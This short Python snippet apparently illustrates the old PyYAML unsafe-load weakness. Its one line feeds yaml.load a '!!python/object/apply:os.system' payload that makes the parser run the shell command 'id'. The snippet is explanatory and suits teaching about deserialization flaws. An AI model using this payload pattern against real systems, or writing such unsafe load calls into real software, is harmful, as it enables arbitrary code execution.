# PyYAML < 6 accepted a bare load() with the full loader
import yaml
data = yaml.load("!!python/object/apply:os.system ['id']")
